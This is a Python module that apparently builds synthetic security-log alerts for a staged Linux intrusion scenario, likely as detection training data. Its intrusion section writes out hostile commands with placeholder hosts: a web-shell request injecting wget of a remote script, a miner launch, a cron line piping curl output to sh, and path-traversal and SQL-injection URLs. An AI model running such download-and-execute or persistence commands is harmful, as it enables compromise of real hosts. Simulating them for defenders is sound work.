"""Alerts of Linux logs: sshd, PAM, sudo, web server, mail, audit, osquery, containers, Git forges."""

from base import *

dice = Dice("linux")
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def stamp(when):
    """Time as in a syslog line."""
    return moment(when).strftime("%b %d %H:%M:%S")


def syslog(log, when, agent, rule, decoder, program, message, data, location="/var/log/auth.log", pid=True, **more):
    name = AGENTS[agent][0]
    tag = f"{program}[{dice.between(900, 31000)}]" if pid else program
    log.add(when, agent, rule, decoder, location, data, full_log=f"{stamp(when)} {name} {tag}: {message}",
            predecoder={"program_name": program, "timestamp": stamp(when), "hostname": name}, parent=decoder, **more)


def ssh_unknown(log, when, agent, user, address, **more):
    port = str(dice.between(33000, 60999))
    syslog(log, when, agent, more.pop("rule", "5710"), "sshd", "sshd", f"Invalid user {user} from {address} port {port}",
           {"srcip": address, "srcport": port, "srcuser": user}, **more)


def ssh_failed(log, when, agent, user, address, **more):
    port = str(dice.between(33000, 60999))
    syslog(log, when, agent, more.pop("rule", "5760"), "sshd", "sshd",
           f"Failed password for {user} from {address} port {port} ssh2",
           {"srcip": address, "srcport": port, "dstuser": user}, **more)


def ssh_accepted(log, when, agent, user, address):
    port = str(dice.between(33000, 60999))
    syslog(log, when, agent, "5715", "sshd", "sshd",
           f"Accepted publickey for {user} from {address} port {port} ssh2: ED25519 SHA256:" + dice.hexa(20),
           {"srcip": address, "srcport": port, "dstuser": user})


def web(log, when, rule, address, method, url, status, size=199, browser=BROWSER, **more):
    time = moment(when).strftime("%d/%b/%Y:%H:%M:%S +0000")
    log.add(when, "001", rule, "web-accesslog", "/var/log/nginx/access.log",
            {"protocol": method, "srcip": address, "id": str(status), "url": url},
            full_log=f'{address} - - [{time}] "{method} {url} HTTP/1.1" {status} {size} "-" "{browser}"', **more)


def execve(log, when, agent, arguments, executable, directory="/root", rule="80792", file=None, uid="0", key="audit-wazuh-c"):
    epoch = int(moment(when).replace(tzinfo=datetime.timezone.utc).timestamp())
    number = dice.between(4000, 90000)
    pid, parent = dice.between(900, 32000), dice.between(400, 900)
    head = f"msg=audit({epoch}.{dice.below(1000):03d}:{number}):"
    command = executable.rsplit("/", 1)[1]
    # auditd writes arguments with blanks or quotes in hexadecimal
    shown = [a.encode().hex().upper() if " " in a or '"' in a else a for a in arguments]
    quoted = [s if s != a else f'"{a}"' for s, a in zip(shown, arguments)]
    line = (f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 items=2 ppid={parent} pid={pid} "
            f"auid=1000 uid={uid} gid={uid} euid={uid} tty=pts0 ses=12 comm=\"{command}\" exe=\"{executable}\" "
            f"key=\"{key}\" type=EXECVE {head} argc={len(arguments)} "
            + " ".join(f"a{i}={a}" for i, a in enumerate(quoted))
            + f" type=CWD {head} cwd=\"{directory}\" type=PATH {head} item=0 name=\"{file or executable}\" "
            f"inode={dice.between(1000, 900000)} mode=0100755")
    data = {"audit": {"type": "SYSCALL", "id": str(number), "arch": "c000003e", "syscall": "59", "success": "yes",
                      "exit": "0", "ppid": str(parent), "pid": str(pid), "auid": "1000", "uid": uid, "gid": uid,
                      "euid": uid, "tty": "pts0", "session": "12", "command": command, "exe": executable, "key": key,
                      "execve": {f"a{i}": a for i, a in enumerate(shown)}, "cwd": directory,
                      "file": {"name": file or executable, "inode": str(dice.between(1000, 900000)),
                               "mode": "0100755"}}}
    log.add(when, agent, rule, "auditd", "/var/log/audit/audit.log", data, full_log=line, parent="auditd",
            desc=f"Audit: Command: {executable}." if rule == "80792" else None)


def osquery(log, when, agent, name, columns, rule="24030", desc=None, plain=False):
    epoch = int(moment(when).replace(tzinfo=datetime.timezone.utc).timestamp())
    record = {"name": name, "hostIdentifier": AGENTS[agent][0],
              "calendarTime": moment(when).strftime("%a %b %d %H:%M:%S 2026 UTC"), "unixTime": str(epoch),
              "epoch": "0", "counter": str(dice.between(1, 900)), "numerics": "false", "columns": strings(columns),
              "action": "added"}
    if plain:
        log.add(when, agent, rule, "json", "/var/log/osquery/osqueryd.results.log", record, desc=desc)
        return
    if name.startswith("pack_"):
        _, record["pack"], record["subquery"] = name.split("_", 2)
    log.add(when, agent, rule, "json", "osquery", {"osquery": record}, desc=desc)


def intrusion(log):
    # Saturday and Sunday: guessing of passwords and scanning from one network
    names = ["admin", "oracle", "ubuntu", "test", "postgres", "git", "deploy", "pi", "guest"]
    for number, user in enumerate(names):
        ssh_unknown(log, f"14 02:1{number}:0{number}.{number}21", "001", user, BRUTE_IP)
    lines = [f"Mar 14 02:1{n}:0{n} web01 sshd[{8100 + n}]: Invalid user {u} from {BRUTE_IP} port {41000 + n}"
             for n, u in enumerate(names[1:8])]
    ssh_unknown(log, "14 02:19:02.400", "001", "support", BRUTE_IP, rule="5712", frequency=8,
                previous="\n".join(reversed(lines)))
    for number in range(4):
        ssh_failed(log, f"15 04:4{number}:1{number}.777", "012", "root", SCAN_IPS[number % 3])
    ssh_failed(log, "15 04:46:02.101", "012", "root", BRUTE_IP, rule="5763", frequency=8)
    ssh_failed(log, "15 05:01:44.230", "012", "root", SCAN_IP6)
    for number, (url, rule, status) in enumerate([
            ("/.env", "31101", 404), ("/wp-login.php", "31101", 404), ("/cgi-bin/.%2e/.%2e/bin/sh", "31104", 400),
            ("/index.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users--", "31103", 404),
            ("/db/.htaccess", "31516", 404), ("/admin/phpinfo.php", "31101", 403)]):
        web(log, f"14 11:0{number}:21.{number}40", rule, SCAN_IPS[0], "GET", url, status, browser=SCAN_AGENT)
    web(log, "14 11:07:02.008", "31151", SCAN_IPS[0], "GET", "/owa/auth.js", 404, browser=SCAN_AGENT, frequency=14,
        previous="\n".join(f'{SCAN_IPS[0]} - - [14/Mar/2026:11:0{n}:21 +0000] "GET {u} HTTP/1.1" 404 199 "-" '
                           f'"{SCAN_AGENT}"' for n, u in enumerate(["/.env", "/wp-login.php"])))
    web(log, "15 19:30:10.500", "31106", SCAN_IPS[2], "POST", "/uploads/.cache.php?cmd=id%3Bwget%20http%3A%2F%2F"
        f"{DROP_HOST}%2Fassets%2Fk.sh", 200, 512, SCAN_AGENT)
    web(log, "15 19:31:44.123", "31101", SCAN_IP6, "GET", "/uploads/.cache.php", 403, browser=USER_AGENT)
    execve(log, "15 19:30:11.090", "001", ["sh", "-c", f"id;wget http://{DROP_HOST}/assets/k.sh"], "/usr/bin/dash",
           "/var/www/html/uploads", uid="33")
    execve(log, "15 19:30:14.733", "001", ["wget", "-q", f"http://{DROP_HOST}/assets/k.sh", "-O", "/dev/shm/k.sh"],
           "/usr/bin/wget", "/var/www/html/uploads", uid="33")
    execve(log, "15 19:30:19.412", "001", [MINER_PATH, "-o", MINER_HOST + ":3333", "-B"], MINER_PATH, "/dev/shm",
           uid="33")
    osquery(log, "15 19:35:00.120", "001", "pack_incident-response_process_events",
            {"pid": "4021", "path": MINER_PATH, "cmdline": f"{MINER_PATH} -o {MINER_HOST}:3333 -B", "parent": "1",
             "uid": "33", "md5": MINER_HASH["md5"], "sha256": MINER_HASH["sha256"]})
    osquery(log, "15 19:35:01.004", "001", "pack_incident-response_crontab",
            {"event": "", "minute": "*/5", "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*",
             "command": f"www-data curl -s http://{DROP_HOST}/assets/k.sh | sh", "path": "/etc/cron.d/php"},
            rule="24033", desc="osquery: incident-response crontab: Command launched www-data curl -s "
            f"http://{DROP_HOST}/assets/k.sh | sh at *:*/5 * * ")
    osquery(log, "15 19:35:02.771", "001", "process_open_sockets",
            {"pid": "4021", "remote_address": DROP_IP, "remote_port": "80", "local_address": "10.20.0.11",
             "local_port": "50122", "path": "/usr/bin/wget"}, rule="100350", plain=True,
            desc="osquery: process_open_sockets query result")
    # Monday: the mail arrives
    queue = "4fXk2N1q9zz3Tq"
    syslog(log, "16 08:40:58.040", "007", "100610", "postfix", "postfix/smtpd",
           f"{queue}: client={PHISH_HOST}[{PHISH_IP}]", {"srcip": PHISH_IP, "hostname": PHISH_HOST, "queue_id": queue},
           "/var/log/mail.log")
    syslog(log, "16 08:40:58.402", "007", "100610", "postfix", "postfix/cleanup",
           f"{queue}: warning: header Content-Disposition: attachment; filename=\"{LURE}\" from {PHISH_HOST}"
           f"[{PHISH_IP}]; from=<{PHISH_FROM}> to=<m.keller@{MAIL}> proto=ESMTP helo=<{PHISH_HOST}>",
           {"srcip": PHISH_IP, "from": PHISH_FROM, "to": f"m.keller@{MAIL}", "attachment": LURE,
            "queue_id": queue}, "/var/log/mail.log")
    syslog(log, "16 08:44:31.918", "007", "3306", "postfix", "postfix/smtpd",
           f"NOQUEUE: reject: RCPT from {PHISH_HOST}[{PHISH_IP}]: 554 5.7.1 Service unavailable; Client host "
           f"[{PHISH_IP}] blocked using bl.mail-list.example; from=<{PHISH_FROM}> to=<a.novak@{MAIL}>",
           {"srcip": PHISH_IP, "from": PHISH_FROM, "to": f"a.novak@{MAIL}", "id": "554"}, "/var/log/mail.log")


def noise(log, days=("14", "15", "16", "17", "18"), scale=1):
    admins = ["10.20.4.33", "10.20.4.34", "192.0.2.140"]
    for day in days:
        for _ in range(scale):
            at = lambda: f"{day} {dice.time(0, 24)}"
            host = dice.pick(LINUX)
            ssh_accepted(log, at(), host, dice.pick(["a.novak", "deploy"]), dice.pick(admins))
            syslog(log, at(), host, "5501", "pam", "sshd", "pam_unix(sshd:session): session opened for user a.novak"
                   "(uid=1004) by (uid=0)", {"dstuser": "a.novak", "uid": "1004"})
            syslog(log, at(), host, "5502", "pam", "sshd", "pam_unix(sshd:session): session closed for user a.novak",
                   {"dstuser": "a.novak"})
            command = dice.pick(["/usr/bin/apt-get update", "/usr/bin/systemctl restart nginx", "/usr/bin/journalctl -e",
                                 "/usr/bin/tail -f /var/log/syslog"])
            syslog(log, at(), host, "5402", "sudo", "sudo", f"a.novak : TTY=pts/0 ; PWD=/home/a.novak ; USER=root ; "
                   f"COMMAND={command}", {"srcuser": "a.novak", "dstuser": "root", "tty": "pts/0",
                                          "pwd": "/home/a.novak", "command": command}, pid=False)
            ssh_unknown(log, at(), dice.pick(["001", "012"]), dice.pick(["admin", "user", "ftp"]),
                        dice.pick(["192.0.2.201", "192.0.2.77", "198.51.100.14", "2001:db8:10::5"]))
            web(log, at(), "31101", dice.pick(["192.0.2.14", "192.0.2.33", "203.0.113.140", "2001:db8:10::22"]), "GET",
                dice.pick(["/favicon.ico", "/robots.txt", "/shop/item/4711", "/apple-touch-icon.png"]), 404)
            execve(log, at(), "010", ["git", "-C", "/srv/build", "fetch", "--all"], "/usr/bin/git", "/srv/build", uid="1001")
    syslog(log, f"{days[0]} 12:30:18.090", "002", "5503", "pam", "sshd",
           "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.20.4.33  "
           "user=a.novak", {"srcip": "10.20.4.33", "dstuser": "a.novak", "uid": "0", "euid": "0", "tty": "ssh"})


def extras(log):
    syslog(log, "17 15:12:40.660", "010", "5404", "sudo", "sudo", "builder : 3 incorrect password attempts ; TTY=pts/2 ; "
           "PWD=/srv ; USER=root ; COMMAND=/bin/bash", {"srcuser": "builder", "dstuser": "root", "tty": "pts/2",
                                                        "pwd": "/srv", "command": "/bin/bash"}, pid=False)
    execve(log, "16 10:20:10.201", "010", ["python3", "/tmp/pip-build-x1/setup.py", "egg_info"], "/usr/bin/python3.11",
           "/tmp/pip-build-x1", rule="92601", uid="1001", key="wazuh_execution")
    execve(log, "17 13:13:13.131", "002", ["ls", "--color=auto", "-lahR", "/var/"], "/usr/bin/ls", rule="92605", key="recon")
    osquery(log, "14 08:00:00.300", "010", "pack_incident-response_listening_ports",
            {"pid": "812", "port": "8080", "protocol": "6", "address": "0.0.0.0", "path": "/usr/bin/docker-proxy"})
    osquery(log, "16 08:00:02.018", "002", "kernel_modules",
            {"name": "nf_conntrack", "size": "204800", "used_by": "nf_nat", "status": "Live"}, rule="100350",
            desc="osquery: kernel_modules query result")
    osquery(log, "17 08:00:01.550", "012", "etc_hosts", {"address": "2001:db8:10::80", "hostnames": "legacy.corvina.test"},
            rule="100350", plain=True, desc="osquery: etc_hosts query result")
    for when, rule, address, sender in [("14 03:40:00.010", "3301", "192.0.2.199", "offer@bulk-mailer.example"),
                                        ("16 21:08:31.300", "3302", "192.0.2.177", "info@newsletter-portal.example")]:
        reason = "454 4.7.1 Relay access denied" if rule == "3301" else "550 5.1.1 Recipient address rejected"
        syslog(log, when, "007", rule, "postfix", "postfix/smtpd", f"NOQUEUE: reject: RCPT from unknown[{address}]: "
               f"{reason}; from=<{sender}> to=<sales@{MAIL}> proto=ESMTP helo=<localhost>",
               {"srcip": address, "from": sender, "to": f"sales@{MAIL}", "id": reason[:3]}, "/var/log/mail.log")
    syslog(log, "15 08:18:11.045", "007", "9705", "dovecot", "dovecot", "auth: passwd-file(info,::ffff:192.0.2.201): "
           "unknown user", {"srcip": "::ffff:192.0.2.201", "dstuser": "info"}, "/var/log/mail.log", pid=False)
    web(log, "14 16:44:01.009", "31108", "192.0.2.33", "GET", "/suche?q=M%C3%BCller", 200)
    container = digests("container")["sha256"]
    for when, rule, action, text, more in [
            ("14 05:00:00.870", "87903", "start", "Docker: Container runner-7 started", {}),
            ("16 11:31:09.218", "87908", "exec_start: /bin/bash", "Docker: Started shell session in container runner-7", {}),
            ("17 22:07:45.003", "87924", "die", "Docker: Container runner-7 received the action: die", {"exitCode": "137"})]:
        epoch = int(moment(when).replace(tzinfo=datetime.timezone.utc).timestamp())
        log.add(when, "010", rule, "json", "Wazuh-Docker", strings({
            "integration": "docker", "docker": {
                "status": action, "id": container, "from": "corvina/builder:2.1", "Type": "container", "Action": action,
                "Actor": {"ID": container, "Attributes": {"image": "corvina/builder:2.1", "name": "runner-7",
                                                          "org": {"opencontainers": {"image": {"version": "2.1"}}}, **more}},
                "scope": "local", "time": epoch, "timeNano": epoch * 10**9 + 123456789}}), desc=text)
    log.add("15 13:00:40.900", "010", "65623", "json", "/var/log/gitlab/gitlab-rails/api_json.log", strings({
        "action": "show", "status": "300", "method": "GET", "path": "/api/v4/projects/17", "format": "json",
        "controller": "Projects::IssuesController", "duration": 229.03, "view": 174.07, "db": 13.24,
        "time": "2026-03-15T13:00:40.721Z", "remote_ip": "10.20.4.33", "user_id": 4, "username": "a.novak"}))
    log.add("17 09:59:10.104", "010", "65612", "json", "/var/log/gitlab/gitlab-rails/audit_json.log", strings({
        "severity": "INFO", "time": "2026-03-17T09:59:09.881Z", "author_name": "m.keller", "entity_type": "Project",
        "change": "visibility", "from": "Private", "to": "Public", "target_details": "finance/reports",
        "remote_ip": C2_IP}), desc="(Gitlab) INFO:changed visibility from Private to Public.")
